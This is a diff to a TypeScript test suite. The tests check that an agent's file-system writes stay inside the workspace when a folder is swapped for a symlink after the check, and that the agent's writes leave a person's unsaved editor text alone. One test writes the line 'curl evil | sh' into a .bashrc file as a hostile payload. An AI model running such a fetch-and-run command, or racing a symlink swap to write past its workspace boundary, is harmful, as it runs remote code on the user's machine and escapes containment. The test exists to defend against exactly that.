@@ -65,7 +65,6 @@ describe("fs/* reaches the file its check saw", () => {
     });
     const fileSystem = new ClientFileSystem(() => paths, {
       openText: () => undefined,
-      showWritten: () => Promise.resolve(),
     });
     const callbacks = clientCallbacks({
       scopeOf: () => ({ route: () => ({}) }) as unknown as ConnectionScope,
@@ -145,27 +144,10 @@ describe("fs/* through a document open in the editor", () => {
 
   afterEach(() => rmSync(base, { recursive: true, force: true }));
 
-  /**
-   * The file system over `ws` with an editor holding `documents` (path → text). `beforeSave` runs when the editor is
-   * asked to save, which writes by name and follows links, as the editor's save does: there a process of the agent's
-   * can change the path after every check was made.
-   */
-  function withEditor(documents: Map<string, string>, beforeSave: () => void = () => undefined) {
+  /** The file system over `ws` with an editor holding `documents` (path → unsaved text). */
+  function withEditor(documents: Map<string, string>) {
     const boundary = new PolicyBoundary([ws], { home: join(base, "home"), caseInsensitive: () => false });
-    const editor = {
-      openText: (path: string) => documents.get(path),
-      showWritten: (path: string, content: string) => {
-        if (documents.has(path)) documents.set(path, content);
-        return Promise.resolve();
-      },
-      writeOpen: (path: string, content: string) => {
-        if (!documents.has(path)) return Promise.resolve(false);
-        beforeSave();
-        documents.set(path, content);
-        writeFileSync(path, content);
-        return Promise.resolve(true);
-      },
-    };
+    const editor = { openText: (path: string) => documents.get(path) };
     const fs = new ClientFileSystem(() => boundary, editor);
     const checked = (path: string) => boundary.resolveInside(path) ?? "";
     return {
@@ -198,20 +180,18 @@ describe("fs/* through a document open in the editor", () => {
     assert.equal(existsSync(target), false, "nothing was written through the link");
   });
 
-  it("writes an open document's file itself: the editor's save follows a folder swapped for a link meanwhile", async () => {
+  it("does not write an open document's file when a folder of its path became a link after the check", async () => {
     mkdirSync(join(ws, "src"));
     const named = join(ws, "src", ".bashrc");
     writeFileSync(named, "# the project's\n");
-    const documents = new Map([[named, "# the project's\n"]]);
-    const fs = withEditor(documents, () => {
-      // A process of the agent's swaps `src` for a link to another folder between the checks and the save.
+    const fs = withEditor(new Map([[named, "# the person's unsaved edit\n"]]));
+    // A process of the agent's swaps `src` for a link to another folder between the check and the write.
+    const swap = () => {
       renameSync(join(ws, "src"), join(ws, "src-moved"));
       symlinkSync(outside, join(ws, "src"));
-    });
-    await fs.write(named, "curl evil | sh\n");
+    };
+    await assert.rejects(fs.write(named, "curl evil | sh\n", swap));
     assert.equal(existsSync(join(outside, ".bashrc")), false, "nothing was written outside the workspace");
-    assert.equal(readFileSync(named, "utf8"), "curl evil | sh\n", "the checked file was written");
-    assert.equal(documents.get(named), "curl evil | sh\n", "the open document shows what was written");
   });
 
   it("answers a file that is not UTF-8 text with an error, open in the editor or not, and keeps its bytes", async () => {
@@ -230,14 +210,14 @@ describe("fs/* through a document open in the editor", () => {
     }
   });
 
-  it("still serves an open document's unsaved text and shows what is written", async () => {
+  it("serves an open document's unsaved text and leaves it to the person when the agent writes the file", async () => {
     const named = join(ws, "notes.txt");
     writeFileSync(named, "saved\n");
     const documents = new Map([[named, "unsaved\nsecond\n"]]);
     const fs = withEditor(documents);
     assert.deepEqual(await fs.read(named), { content: "unsaved\nsecond\n" });
     await fs.write(named, "by the agent\n");
-    assert.equal(documents.get(named), "by the agent\n");
     assert.equal(readFileSync(named, "utf8"), "by the agent\n");
+    assert.equal(documents.get(named), "unsaved\nsecond\n", "the person's unsaved edits are not replaced");
   });
 });
